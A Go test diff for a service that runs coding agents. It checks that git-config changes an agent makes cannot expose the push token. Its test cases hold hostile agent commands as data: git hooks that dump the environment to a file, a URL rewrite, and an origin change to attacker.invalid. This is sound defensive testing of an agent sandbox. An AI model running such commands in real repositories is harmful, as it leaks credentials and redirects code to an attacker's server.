@@ -4,6 +4,7 @@ import (
 	"context"
 	"errors"
 	"log/slog"
+	"os"
 	"os/exec"
 	"path/filepath"
 	"strings"
@@ -189,5 +190,38 @@ func TestStopExecBackendKillsTheCommandGroup(t *testing.T) {
 	pid := <-pids
 	if err := syscall.Kill(-pid, 0); !errors.Is(err, syscall.ESRCH) {
 		t.Errorf("command group %d still exists: %v", pid, err)
+	}
+}
+
+func TestAgentEditsToGitConfigCannotReachTheToken(t *testing.T) {
+	cases := []struct {
+		name      string
+		command   string
+		wantError string // in completion errors; "" means the push went through
+	}{
+		{"a planted pre-push hook does not run", `mkdir -p .git/hooks && printf '#!/bin/sh\nenv > "$MARKER_DIR/hook-env"\n' > .git/hooks/pre-push && chmod +x .git/hooks/pre-push && printf '#!/bin/sh\nenv > "$MARKER_DIR/hook-env"\n' > .git/hooks/post-commit && chmod +x .git/hooks/post-commit`, ""},
+		{"a URL rewrite stops the push", `git config url."https://attacker.invalid/".insteadOf "$REPO_URL"`, "refusing to push"},
+		{"a changed origin is not where the branch goes", `git remote set-url origin https://attacker.invalid/repo.git`, ""},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			s := newScenario(t, oneStory(t), "tok-123")
+			marker := t.TempDir()
+			s.cfg.Agent = AgentExec
+			s.cfg.AgentCommand = tc.command
+			s.cfg.Env = append(s.cfg.Env, "MARKER_DIR="+marker, "REPO_URL="+s.srv.URL)
+			_, msgs := runScenario(t, context.Background(), s, s.request(t))
+			c := completionOf(t, msgs)
+			errs := strings.Join(c.Errors, "\n")
+			if tc.wantError == "" && errs != "" || !strings.Contains(errs, tc.wantError) {
+				t.Fatalf("errors %q, want %q", c.Errors, tc.wantError)
+			}
+			if _, err := os.Stat(filepath.Join(marker, "hook-env")); err == nil {
+				t.Fatal("a hook written by the agent ran")
+			}
+			if tc.wantError == "" && finalStatuses(t, s)["US-001"] != tasks.Completed {
+				t.Fatal("the branch was not pushed to the request's repository")
+			}
+		})
 	}
 }
